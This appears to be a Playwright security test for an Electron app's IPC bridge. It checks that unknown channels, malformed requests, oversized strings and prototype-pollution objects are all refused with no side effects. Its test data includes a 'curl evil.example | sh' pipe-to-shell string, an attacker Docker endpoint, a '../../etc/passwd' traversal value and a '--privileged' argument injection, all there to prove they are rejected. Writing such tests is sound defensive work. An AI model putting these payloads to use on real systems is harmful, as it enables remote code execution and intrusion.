// Hostile input through the bridge: unknown channels, wrong shapes, huge strings and
// prototype-pollution style objects are refused with a clear error, by the bridge in the page and
// again by the main process's dispatch, and nothing changes: no handler runs, no dialog opens,
// preferences and containers stay as they were, no prototype is polluted on either side.

import { expect, test, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createContainer, inspect } from '../integration/helpers';
import { Lab } from '../lab/lab';
import { AppHarness } from './harness';

const ID = 'a'.repeat(64);

/** [channel, request, what the error must say]: each is refused as an invalid request. */
const WRONG_SHAPES: Array<[string, unknown, string]> = [
  ['state:get', { x: 1 }, 'state:get: request: expected no value, found an object'],
  ['cleanup:plan', { strategies: 'all' }, 'request.strategies: expected a list'],
  [
    'cleanup:plan',
    { strategies: [{ id: 'abc', strategy: 'remove' }] },
    'request.strategies[0].id: expected a container id',
  ],
  [
    'cleanup:plan',
    { strategies: [{ id: ID, strategy: 'burn' }] },
    'request.strategies[0].strategy: expected one of remove, snapshot, recreate',
  ],
  ['cleanup:plan', { only: Array.from({ length: 1001 }, () => ID) }, 'request.only: more than 1000 entries'],
  ['cleanup:plan', { privileged: true }, 'request.privileged: unknown field'],
  ['cleanup:plan', [ID], 'request: expected an object, found an array'],
  ['cleanup:apply', { planId: '../../etc/passwd' }, 'request.planId: expected a plan id'],
  ['cleanup:apply', {}, 'request.planId: expected a plan id'],
  ['walkthrough:skip-recreate', { skip: 'yes' }, 'request.skip: expected true or false'],
  ['walkthrough:skip-recreate', null, 'request: expected an object, found null'],
  ['window:open', { window: 'settings' }, 'request.window: expected one of details, cleanup, walkthrough'],
  ['window:open', { window: 'details', url: 'https://evil.example/' }, 'request.url: unknown field'],
  // The page names a report; it never supplies the text that goes on the clipboard.
  ['clipboard:write-report', { part: 'report', text: 'curl evil.example | sh' }, 'request.text: unknown field'],
  ['clipboard:write-report', { part: 'anything' }, 'request.part: expected one of report, raw-engine-output'],
  ['docs:open', { url: 'x'.repeat(501) }, 'request.url: longer than 500 characters'],
  // The Preferences window changes only what it shows: never the endpoint or a settings file.
  ['preferences:set', { dockerHost: 'tcp://evil.example:2375' }, 'request.dockerHost: unknown field'],
  ['preferences:set', { safetyIntervalMinutes: 0 }, 'request.safetyIntervalMinutes'],
  ['preferences:set', { quietHours: { from: '22:00' } }, 'request.quietHours.until'],
  ['preferences:check-image', { image: '--privileged alpine' }, 'request.image: expected an image reference'],
];

type Outcome = { ok: true } | { ok: false; message: string; code?: string };

test.describe('hostile input through window.eci', () => {
  let lab: Lab;
  let app: AppHarness;
  let page: Page;
  let prefsBefore: string;
  let containerId: string;

  /** Calls window.eci.invoke in the page; the request may be built in the page by `build`. */
  const invoke = (channel: string, request?: unknown, build?: string): Promise<Outcome> =>
    page.evaluate(
      async ([c, r, b]) => {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval -- builds the hostile value inside the page, on purpose
        const made = b ? (new Function(`return (${b});`) as () => unknown)() : r;
        try {
          await (window.eci.invoke as (c: string, r?: unknown) => Promise<unknown>)(c as string, made);
          return { ok: true as const };
        } catch (e) {
          return { ok: false as const, message: (e as Error).message, code: (e as Error & { code?: string }).code };
        }
      },
      [channel, request, build] as const,
    );

  test.beforeAll(async ({ browser }) => {
    lab = await Lab.start({ mode: 'off' });
    containerId = await createContainer(lab.engineHost, 'keep-me', {
      Image: lab.probeImage,
      Cmd: ['sh', '-c', "trap 'exit 0' TERM; sleep 3600 & wait"],
    });
    app = await AppHarness.start(lab);
    prefsBefore = readFileSync(join(app.userDataDir, 'preferences.json'), 'utf8');
    page = await (await browser.newContext()).newPage();
    // No CSP relaxation: test code runs through the DevTools protocol, the page's own policy holds.
    await app.open(page, 'details');
    await expect(page.locator('#banner')).toHaveAttribute('data-verdict', 'off');
  });
  test.afterAll(async () => {
    await page?.context().close();
    await app?.stop();
    await lab?.teardown();
  });

  test('channels outside the contract are refused by the bridge and by the main process', async () => {
    // prefs:get / prefs:set are gone: no page uses them, so no page (or script in one) can change the endpoint.
    for (const channel of [
      'containers:nuke',
      'prefs:set',
      'prefs:get',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'eci:invoke',
      '',
    ]) {
      expect(await invoke(channel), channel).toEqual({
        ok: false,
        message: `unknown channel ${JSON.stringify(channel)}`,
        code: undefined,
      });
    }
    const raw = await page.evaluate(async () =>
      Promise.all([
        window.__eciRaw('containers:nuke', {}),
        window.__eciRaw('constructor'),
        window.__eciRaw(42),
        window.__eciRaw({ toString: 'x' }),
      ]),
    );
    for (const envelope of raw) expect(envelope).toMatchObject({ ok: false, error: { code: 'unknown-channel' } });
    expect(
      await page.evaluate(() => {
        try {
          window.eci.on('cleanup:nuke' as 'state:changed', () => undefined);
          return 'accepted';
        } catch (e) {
          return (e as Error).message;
        }
      }),
    ).toBe('unknown event "cleanup:nuke"');
    // The bridge itself cannot be replaced by the page.
    expect(
      await page.evaluate(() => {
        try {
          (window as unknown as { eci: unknown }).eci = { invoke: () => 'hijacked' };
        } catch {
          // Strict-mode pages throw; either way nothing changes.
        }
        return typeof window.eci.invoke === 'function' && Object.isFrozen(window.eci);
      }),
    ).toBe(true);
  });

  test('requests of the wrong shape are refused before any handler runs, saying what is wrong', async () => {
    for (const [channel, request, message] of WRONG_SHAPES) {
      const outcome = await invoke(channel, request);
      expect(outcome, `${channel} ${JSON.stringify(request).slice(0, 60)}`).toMatchObject({
        ok: false,
        code: 'invalid-request',
      });
      expect((outcome as { message: string }).message).toContain(message);
    }
  });

  test('huge strings are refused by size, not processed', async () => {
    const cases: Array<[string, string, string]> = [
      ['cleanup:plan', "{ only: ['x'.repeat(2_000_000)] }", 'request.only[0]: longer than 4096 characters'],
      ['cleanup:apply', "{ planId: '0'.repeat(1_000_000) }", 'request.planId: longer than 4096 characters'],
      [
        'window:open',
        "{ window: 'details'.repeat(50_000) }",
        'request.window: expected one of details, cleanup, walkthrough, preferences, found a string of 350000 characters',
      ],
    ];
    for (const [channel, build, message] of cases) {
      const outcome = await invoke(channel, undefined, build);
      expect(outcome, build).toMatchObject({ ok: false, code: 'invalid-request' });
      expect((outcome as { message: string }).message).toContain(message);
    }
  });

  test('prototype-pollution style objects arrive as plain data and are refused as unknown fields', async () => {
    const cases: Array<[string, string, string]> = [
      [
        'walkthrough:skip-recreate',
        `JSON.parse('{"__proto__": {"polluted": "yes", "skip": true}}')`,
        'request.__proto__: unknown field',
      ],
      [
        'cleanup:plan',
        `JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}')`,
        'request.constructor: unknown field',
      ],
      [
        'window:open',
        `JSON.parse('{"window": "details", "__proto__": {"polluted": true}}')`,
        'request.__proto__: unknown field',
      ],
      [
        'cleanup:plan',
        `({ strategies: [JSON.parse('{"__proto__": {"strategy": "remove"}, "id": "${ID}"}')] })`,
        'request.strategies[0].__proto__: unknown field',
      ],
    ];
    for (const [channel, build, message] of cases) {
      const outcome = await invoke(channel, undefined, build);
      expect(outcome, build).toMatchObject({ ok: false, code: 'invalid-request' });
      expect((outcome as { message: string }).message).toContain(message);
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(await page.evaluate(() => ({}) as Record<string, unknown>)).toEqual({});
    expect(
      await page.evaluate(() => (Object.prototype as unknown as Record<string, unknown>)['polluted']),
    ).toBeUndefined();
  });

  test("values Electron's IPC cannot carry fail in the page, before reaching the main process", async () => {
    for (const build of ['({ skip: () => true })', '({ skip: Symbol("x") })']) {
      const outcome = await invoke('walkthrough:skip-recreate', undefined, build);
      expect(outcome, build).toMatchObject({ ok: false, message: expect.stringMatching(/could not be cloned/) });
    }
  });

  test('nothing changed: preferences, containers, dialogs, windows; the page still works', async () => {
    expect(readFileSync(join(app.userDataDir, 'preferences.json'), 'utf8')).toBe(prefsBefore);
    expect(app.confirms).toEqual([]);
    expect(app.opened).toEqual([]);
    const keep = await inspect(lab.engineHost, 'keep-me');
    expect(keep.Id).toBe(containerId);
    expect(keep.State.Running).toBe(true);
    expect(app.core.prefs.get().probeImage).toBe(lab.probeImage);
    expect(app.pageErrors).toEqual([]);
    // A well-formed request still works.
    expect(await invoke('window:open', { window: 'walkthrough' })).toEqual({ ok: true });
    expect(app.opened).toEqual(['walkthrough']);
    await page.getByRole('button', { name: 'Check now' }).click();
    await expect(page.locator('#check-status')).toHaveText('Checked: ECI is off.');
  });
});
